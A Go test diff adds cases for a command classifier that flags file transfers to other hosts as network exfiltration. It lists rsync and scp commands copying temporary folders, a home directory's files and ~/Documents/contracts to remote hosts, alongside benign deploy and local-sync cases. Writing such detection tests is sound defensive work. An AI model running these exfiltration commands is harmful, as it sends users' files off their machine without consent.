@@ -33,3 +33,22 @@ func TestSendsAndStops(t *testing.T) {
 		checkRow(t, tt.cmd, tt.want)
 	}
 }
+
+// TestFoldersSentAway: a folder of the temporary folder, or one outside
+// the project, synced to another host is an upload (the README's rule);
+// the project's own folders deployed stay everyday.
+func TestFoldersSentAway(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`rsync -r /tmp/adversary-rsync/ victim@victim-host:/tmp/victim-files`, NetworkExfiltration},
+		{`rsync -av --files-from=- /home/user/files user@targethost:/dest_path`, NetworkExfiltration},
+		{`scp -r ~/Documents/contracts backup@example.test:`, NetworkExfiltration},
+		{`rsync -av public/ deploy@web.example.test:/var/www/site/`, ""},
+		{`scp -r app/ alice@example.test:~/`, ""},
+		{`rsync -a alice@example.test:logs/ ./logs/`, ""},
+		{`rsync -a /tmp/a/ /tmp/b/`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
